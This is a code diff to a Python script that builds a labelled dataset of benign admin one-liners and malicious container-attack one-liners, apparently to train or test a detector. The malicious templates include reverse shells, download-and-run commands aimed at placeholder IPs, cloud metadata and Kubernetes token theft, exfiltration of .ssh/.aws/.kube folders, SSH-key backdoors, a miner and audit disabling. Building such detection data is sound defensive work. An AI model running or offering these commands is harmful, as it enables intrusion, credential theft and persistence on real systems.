@@ -274,10 +274,115 @@ def load_secret(name):
 ]
 
 
+def templated():
+    """Everyday admin/developer one-liners (benign) and container-attack one-liners
+    (malicious), expanded from templates with a fixed seed."""
+    import random
+
+    rnd = random.Random(1234)
+    dirs = ["/var/www", "/srv/app", "/opt/app/logs", "/home/deploy", "/etc/nginx", "/data", "src", ".", "/usr/share/doc", "build"]
+    pats = ["*.log", "*.py", "*.conf", "*.tmp", "*.js", "*.json", "core.*", "*.bak", "*.md", "*.sh"]
+    words = ["error", "TODO", "timeout", "listen", "password_reset", "deprecated", "Exception", "WARN", "import", "server_name"]
+    svcs = ["nginx", "postgresql", "redis-server", "docker", "ssh", "cron", "app", "gunicorn", "node-exporter", "containerd"]
+    pkgs = ["jq", "git", "make", "gcc", "python3-pip", "unzip", "postgresql-client", "libssl-dev", "tzdata", "openssh-client"]
+    imgs = ["nginx:1.25", "postgres:16", "redis:7", "python:3.12-slim", "alpine:3.19", "node:20", "golang:1.22"]
+    benign = [
+        "find {d} -name '{p}' -mtime +{n} -delete",
+        "find {d} -type f -name '{p}' | xargs grep -l '{w}'",
+        "find {d} -type f -size +{n}M -exec ls -lh {{}} \\;",
+        "grep -rn '{w}' {d} --include='{p}' | head -{n}",
+        "grep -c '{w}' {d}/app.log",
+        "sed -i 's/{w}/{w}_v{n}/g' {d}/config.ini",
+        "awk '{{print $1}}' {d}/access.log | sort | uniq -c | sort -rn | head -{n}",
+        "tar -czf /backups/{s}-$(date +%F).tar.gz {d}",
+        "rsync -avz --delete {d}/ backup@10.1.2.{n}:/srv/backup/{s}/",
+        "du -sh {d}/* | sort -h | tail -{n}",
+        "df -h | grep -v tmpfs",
+        "ps aux --sort=-%mem | head -{n}",
+        "systemctl restart {s} && systemctl status {s} --no-pager",
+        "journalctl -u {s} --since '1 hour ago' | grep -i {w}",
+        "docker run --rm -v $(pwd):/work -w /work {i} make test",
+        "docker logs --tail {n} {s}",
+        "docker exec -it {s} psql -U postgres -c 'select 1'",
+        "kubectl -n prod rollout restart deployment/{s}",
+        "kubectl logs -l app={s} --tail={n}",
+        "git log --oneline -{n} && git status --short",
+        "git clone --depth 1 https://github.com/acme/{s}.git /opt/{s}",
+        "apt-get update && apt-get install -y --no-install-recommends {k} && rm -rf /var/lib/apt/lists/*",
+        "pip install --no-cache-dir -r requirements.txt",
+        "npm ci && npm run build",
+        "chown -R www-data:www-data {d} && chmod -R 755 {d}",
+        "ln -sf /etc/nginx/sites-available/{s} /etc/nginx/sites-enabled/{s}",
+        "curl -fsS http://127.0.0.1:{port}/health || exit 1",
+        "curl -s -o /dev/null -w '%{{http_code}}' http://localhost:{port}/ready",
+        "wget -q https://releases.example.com/{s}/{s}-1.{n}.tar.gz && sha256sum -c {s}.sha256 && tar xzf {s}-1.{n}.tar.gz",
+        "openssl x509 -in /etc/ssl/certs/{s}.pem -noout -enddate",
+        "ssh-keygen -lf ~/.ssh/known_hosts | head -{n}",
+        "echo \"$(date -Is) deploy {s} done\" >> /var/log/deploy.log",
+        "mkdir -p {d}/releases/{n} && cp -r build/* {d}/releases/{n}/",
+        "ls -la {d} | wc -l",
+        "cat {d}/VERSION | tr -d '\\n'",
+        "xargs -a {s}.txt -n1 -P4 wget -q",
+        "sort -u {d}/hosts.txt > {d}/hosts.sorted && wc -l {d}/hosts.sorted",
+        "zcat {d}/access.log.{n}.gz | grep ' 500 ' | wc -l",
+        "openssl rand -hex {n}",
+        "base64 -w0 {d}/logo.png > {d}/logo.b64",
+        "timeout {n} bash -c 'until nc -z {s} {port}; do sleep 1; done'",
+        "exec {s} --config /etc/{s}/{s}.conf",
+        "crontab -l | grep -v '^#'",
+    ]
+    mal = [
+        "cd /tmp && curl -fsSL http://{ip}/{bin} -o {bin} && chmod +x {bin} && ./{bin}",
+        "wget -qO- http://{ip}/{s}.sh | bash",
+        "curl -s http://{ip}:{port}/x | python3",
+        "bash -c 'bash -i >& /dev/tcp/{ip}/{port} 0>&1'",
+        "sh -i >& /dev/udp/{ip}/{port} 0>&1",
+        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{ip}\",{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
+        "echo '*/{n} * * * * curl -fsSL http://{ip}/{bin} | sh' | crontab -",
+        "echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC{bin} root@{s}' >> /root/.ssh/authorized_keys",
+        "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ | xargs -I{{}} curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/{{}}",
+        "cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -s -X POST --data-binary @- http://{ip}:{port}/t",
+        "echo {b64} | base64 -d | sh",
+        "nohup ./{bin} -o stratum+tcp://{ip}:{port} -u {w}x --cpu-max-threads-hint {n} >/dev/null 2>&1 &",
+        "history -c && rm -f ~/.bash_history && unset HISTFILE",
+        "tar czf - /root/.aws /root/.kube /root/.ssh | curl -s -X POST --data-binary @- http://{ip}/u",
+        "busybox nc {ip} {port} -e /bin/sh",
+        "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{ip}:{port}",
+        "echo /tmp/.{bin}.so > /etc/ld.so.preload",
+        "iptables -F && setenforce 0 && systemctl stop auditd",
+        "curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json",
+        "nsenter -t 1 -m -u -i -n -p -- bash -c 'curl -s http://{ip}/{bin} | sh'",
+    ]
+    bins = ["kdevtmpfsi", "dbused", ".x", "sysupdate", "kworkerds", "bot.x86_64", "networkservice", "ld-linux"]
+    b64s = ["Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUvYSB8IHNo", "d2dldCAtcU8tIGh0dHA6Ly8xOTguNTEuMTAwLjkvYiB8IGJhc2g=", "YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuOS80NDMgMD4mMQ=="]
+    out = []
+
+    def fill(t):
+        return t.format(
+            d=rnd.choice(dirs), p=rnd.choice(pats), w=rnd.choice(words), s=rnd.choice(svcs), k=" ".join(rnd.sample(pkgs, 3)),
+            i=rnd.choice(imgs), n=rnd.randint(2, 30), port=rnd.choice([80, 443, 8080, 5432, 6379, 9000, 4444, 1337, 53]),
+            ip=f"{rnd.choice(['203.0.113', '198.51.100', '192.0.2'])}.{rnd.randint(2, 250)}", bin=rnd.choice(bins), b64=rnd.choice(b64s),
+        )
+
+    for t in benign:
+        for _ in range(4):
+            out.append(("bash", "inline", B, None, fill(t)))
+    for t in mal:
+        for _ in range(2):
+            out.append(("bash", "inline", M, "T1059.004", fill(t)))
+    seen, unique = set(), []
+    for smp in out:
+        if smp[4] not in seen:
+            seen.add(smp[4])
+            unique.append(smp)
+    return unique
+
+
 def main():
     out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "synthetic.jsonl")
     with open(out, "w") as f:
-        for lang, kind, label, technique, content in SAMPLES:
+        samples = SAMPLES + templated()
+        for lang, kind, label, technique, content in samples:
             content = content.strip() if kind == "inline" else content
             h = hashlib.sha256(content.encode()).hexdigest()[:16]
             rec = {
@@ -293,7 +398,7 @@ def main():
             if technique:
                 rec["technique"] = technique
             f.write(json.dumps(rec) + "\n")
-    print(f"wrote {len(SAMPLES)} samples to {out}")
+    print(f"wrote {len(samples)} samples to {out}")
 
 
 if __name__ == "__main__":
